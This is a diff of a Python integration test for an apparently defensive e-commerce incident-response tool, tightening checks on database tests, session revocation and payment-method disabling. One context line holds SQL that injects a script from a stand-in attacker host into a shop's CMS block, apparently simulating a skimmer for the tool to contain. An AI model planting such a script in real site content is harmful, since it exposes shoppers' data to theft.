@@ -42,8 +42,8 @@ update mg_cms_block set content = '<script src="//thief.example/x.js"></script>'
 def contract(folder):
     """The contract of actions, at the shop's own server; the shop's schema is made anew by it, so this comes first."""
     env = {**os.environ, "MAGEWARDEN_TEST_MARIADB": f"{folder}/sock"}
-    tested = subprocess.run(["cargo", "test", "--locked", "-p", "magewarden-responders", "--test", "it", "database"], env=env, cwd=ROOT, capture_output=True, text=True)
-    need(tested.returncode == 0 and "1 passed" in tested.stdout, "the contract of actions at a real MariaDB", tested.stdout + tested.stderr)
+    tested = subprocess.run(["cargo", "test", "--locked", "-p", "magewarden-responders", "--test", "it", "database", "--", "--nocapture"], env=env, cwd=ROOT, capture_output=True, text=True)
+    need(tested.returncode == 0 and "1 passed" in tested.stdout and "skipped" not in tested.stderr, "the contract of actions at a real MariaDB", tested.stdout + tested.stderr)
 
 
 class AtDatabase(Containment):
@@ -141,9 +141,9 @@ def main():
         bought += at.contained(["deactivate_administrator", "administrator=eve"], one(
             "select count(*) from shop.mg_admin_user u left join shop.mg_admin_user_session s using (user_id) where user_id = 7 and u.is_active = 1"),
             stays={"mg_admin_user_session", "mg_oauth_token", "mg_jwt_auth_revoked"})
-        ended = shop.sql("select (select status from shop.mg_admin_user_session where user_id = 7), (select revoked from shop.mg_oauth_token where admin_id = 7), "
+        ended = shop.sql("select (select concat(status, date(updated_at)) from shop.mg_admin_user_session where user_id = 7), (select revoked from shop.mg_oauth_token where admin_id = 7), "
                          "(select count(*) from shop.mg_jwt_auth_revoked where user_type_id = 2 and user_id = 7 and revoke_before > unix_timestamp() - 600)")
-        need(ended.split() == ["3", "1", "1"], "sessions and tokens stay ended", ended)
+        need(ended.split() == ["32026-02-03", "1", "1"], "sessions and tokens stay ended, and when a session was last used", ended)
         bought += at.contained(["revoke_integration", "integration=ERP"], one("select count(*) from shop.mg_oauth_token where consumer_id = 4 and revoked = 0"))
         offers = lambda: '"checkmo"' in shop.ask("us.shop.test", "/rest/us/V1/guest-carts/x/payment-methods")[2]
         bought += at.contained(["disable_payment_method", "website=second", "method=checkmo"], offers, views=("de", "fr"))
